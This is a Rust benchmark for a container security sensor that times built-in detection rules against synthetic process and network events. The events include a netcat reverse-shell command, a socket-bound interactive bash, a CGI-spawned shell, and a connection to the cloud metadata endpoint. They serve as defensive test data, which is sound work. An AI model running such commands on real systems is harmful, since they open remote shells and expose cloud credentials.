//! Rule evaluation per event with the built-in rules: the p99 must stay under
//! 50 µs (docs/runtime.md). Criterion reports the mean; the p99 over a
//! mixed stream of events is printed first.

use std::time::Instant;

use caisson_sensor::event::{Ancestor, ConnEvent, ConnPhase, Event, ExecEvent, FdKind};
use caisson_sensor::rules::Subject;
use caisson_sensor::RuleSet;
use criterion::{criterion_group, criterion_main, Criterion};

fn events() -> Vec<Event> {
    let exec = |name: &str, args: &[&str], parents: &[&str], tty: u32, sock: bool| {
        Event::Exec(Box::new(ExecEvent {
            pid: 4242,
            name: name.into(),
            exe: Some(format!("/usr/bin/{name}")),
            argv0: Some(name.into()),
            args: args.iter().map(|s| s.to_string()).collect(),
            cmdline: format!("{name} {}", args.join(" ")),
            uid: Some(0),
            tty: Some(tty),
            stdin: if sock { FdKind::Socket } else { FdKind::Pipe },
            stdout: if sock { FdKind::Socket } else { FdKind::Pipe },
            container_id: Some("c".repeat(64)),
            ancestors: parents
                .iter()
                .map(|p| Ancestor {
                    pid: 1,
                    name: p.to_string(),
                    exe: Some(format!("/usr/sbin/{p}")),
                })
                .collect(),
            complete: true,
            ..ExecEvent::default()
        }))
    };
    vec![
        exec(
            "ls",
            &["-l", "/"],
            &["sh", "containerd-shim", "systemd"],
            0,
            false,
        ),
        exec(
            "sh",
            &["-c", "id"],
            &["x.cgi", "httpd", "httpd", "containerd-shim", "systemd"],
            0,
            false,
        ),
        exec(
            "apt-get",
            &["install", "-y", "curl", "wget", "netcat-openbsd"],
            &["bash", "runc"],
            34816,
            false,
        ),
        exec("bash", &["-i"], &["bash", "containerd-shim"], 0, true),
        exec(
            "python3",
            &["-m", "pip", "install", "requests", "flask", "gunicorn"],
            &["sh", "node", "containerd-shim"],
            0,
            false,
        ),
        exec(
            "nc",
            &["10.0.0.1", "4444", "-e", "/bin/sh"],
            &["sh"; 8],
            0,
            false,
        ),
        Event::Conn(ConnEvent {
            time: None,
            phase: ConnPhase::New,
            proto: "tcp",
            src: "172.17.0.2"
                .parse()
                .unwrap_or(std::net::Ipv4Addr::LOCALHOST.into()),
            dst: "169.254.169.254"
                .parse()
                .unwrap_or(std::net::Ipv4Addr::LOCALHOST.into()),
            src_port: 40000,
            dst_port: 80,
            bytes_orig: None,
            bytes_reply: None,
            reply_src: None,
            reply_src_port: None,
        }),
    ]
}

fn bench(c: &mut Criterion) {
    let rules = RuleSet::builtin().unwrap_or_else(|e| panic!("{e}"));
    let evs = events();
    let cid = "c".repeat(64);
    let subjects: Vec<Subject<'_>> = evs
        .iter()
        .map(|e| Subject {
            event: e,
            container: None,
            container_id: Some(&cid),
        })
        .collect();
    // p99 over 200,000 evaluations of the mixed stream.
    let mut ns: Vec<u128> = Vec::with_capacity(200_000);
    for i in 0..200_000 {
        let s = &subjects[i % subjects.len()];
        let t = Instant::now();
        let n = rules.matching(s).count();
        ns.push(t.elapsed().as_nanos());
        std::hint::black_box(n);
    }
    ns.sort_unstable();
    println!(
        "rule evaluation per event ({} rules): p50 {:.2} µs, p99 {:.2} µs, max {:.2} µs",
        rules.rules().len(),
        ns[ns.len() / 2] as f64 / 1000.0,
        ns[ns.len() * 99 / 100] as f64 / 1000.0,
        ns[ns.len() - 1] as f64 / 1000.0
    );
    c.bench_function("evaluate built-in rules, mixed events", |b| {
        let mut i = 0;
        b.iter(|| {
            i += 1;
            rules.matching(&subjects[i % subjects.len()]).count()
        })
    });
}

criterion_group!(benches, bench);
criterion_main!(benches);
